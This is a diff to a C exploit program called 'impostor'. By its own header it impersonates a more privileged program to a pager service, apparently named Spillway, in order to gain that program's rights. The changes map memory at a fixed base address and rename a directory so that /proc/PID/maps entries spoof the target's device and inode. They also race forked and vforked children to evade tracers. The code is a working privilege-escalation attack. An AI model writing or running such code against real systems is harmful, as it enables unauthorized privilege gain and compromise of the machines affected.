@@ -1,6 +1,9 @@
 // Says hello to its pager with addresses of another program, and becomes that program, which has more rights.
 //
-// Usage: impostor MAGIC VERSION WORDS HEAD_BYTES BAIT TAKEN ROOM SECONDS. It must be started without the pager's library.
+// Usage: impostor MAGIC VERSION WORDS HEAD_BYTES BAIT TAKEN ROOM SECONDS BASE. It must be started without the pager's library.
+//
+// The head lies at BASE, where the other program has the first page of its own file, and the other program is executed from
+// a directory that is named as /proc/PID/maps writes the head's device and inode: BAIT's directory can be renamed.
 //
 // Every other try keeps the memory that the pager knows alive in a process beside it (CLONE_VM).
 
@@ -15,7 +18,9 @@
 #include <sys/ioctl.h>
 #include <sys/mman.h>
 #include <sys/socket.h>
+#include <sys/stat.h>
 #include <sys/syscall.h>
+#include <sys/sysmacros.h>
 #include <sys/un.h>
 #include <sys/wait.h>
 #include <time.h>
@@ -73,7 +78,24 @@ static void hello(uint64_t magic, uint64_t version, uint64_t token, int status, 
     memcpy(words, own, sizeof own);
 }
 
-static void become(uint64_t magic, uint64_t version, char **places, char *bait, char *seconds, int keeps) {
+// Where the other program is once its directory has the name of the head's columns.
+static char *named_like(int head, const char *bait) {
+    static char named[4096], before[4096];
+    struct stat about;
+    if (fstat(head, &about) != 0) exit(14);
+    char *directory = strdup(bait), *program = strrchr(directory, '/');
+    *program++ = 0;
+    char *end = strrchr(directory, '/');
+    snprintf(named, sizeof named, "%.*s/ %02x:%02x %lu ", (int)(end - directory), directory, major(about.st_dev),
+             minor(about.st_dev), (unsigned long)about.st_ino);
+    // It has that name since the first try.
+    if (rename(directory, named) != 0 && errno != ENOENT) exit(15);
+    strcpy(before, named);
+    snprintf(named, sizeof named, "%s/%s", before, program);
+    return named;
+}
+
+static void become(uint64_t magic, uint64_t version, char **places, char *bait, char *seconds, char *base, int keeps) {
     char *variable = strdup(getenv("SPILLWAY_PAGER")), *mark = strrchr(variable, '#');
     *mark = 0;
     uint64_t token = strtoull(mark + 1, NULL, 16);
@@ -92,11 +114,13 @@ static void become(uint64_t magic, uint64_t version, char **places, char *bait, 
     hello(magic, version, token, 0, places);
     send_words(connection, memory);
     if (receive_words(connection, &passed) != PAGE) exit(8);
-    char *head = mmap(NULL, head_bytes, PROT_READ, MAP_PRIVATE, passed, 0);
+    void *place = (void *)strtoull(base, NULL, 16);
+    char *head = mmap(place, head_bytes, PROT_READ, MAP_PRIVATE | MAP_FIXED_NOREPLACE, passed, 0);
     if (head == MAP_FAILED) exit(9);
     memset(words, 0, sizeof words);
     words[0] = magic, words[1] = version, words[2] = (uint64_t)head;
     send_words(connection, -1);
+    bait = named_like(passed, bait);
     // The pager believes this one while it waits for another (as in vfork), where no tracer can stop it.
     if (keeps) wait_with(0, stacks[0], 3000);
     wait_with(CLONE_VFORK, stacks[1], 60);
@@ -105,14 +129,14 @@ static void become(uint64_t magic, uint64_t version, char **places, char *bait, 
 }
 
 int main(int count, char **arguments) {
-    if (count != 9) return 2;
+    if (count != 10) return 2;
     uint64_t magic = strtoull(arguments[1], NULL, 10), version = strtoull(arguments[2], NULL, 10);
     word_count = strtoul(arguments[3], NULL, 10), head_bytes = strtoul(arguments[4], NULL, 10);
     time_t end = time(NULL) + atoi(arguments[8]);
     int tries = 0;
     do {
         pid_t child = fork();
-        if (child == 0) become(magic, version, arguments + 6, arguments[5], tries % 2 ? "0.2" : "1", tries % 2 == 0);
+        if (child == 0) become(magic, version, arguments + 6, arguments[5], tries % 2 ? "0.2" : "1", arguments[9], tries % 2 == 0);
         int status;
         if (waitpid(child, &status, 0) != child) return 12;
         if (!WIFEXITED(status) || WEXITSTATUS(status) != 0) return printf("status %x\n", status), 13;
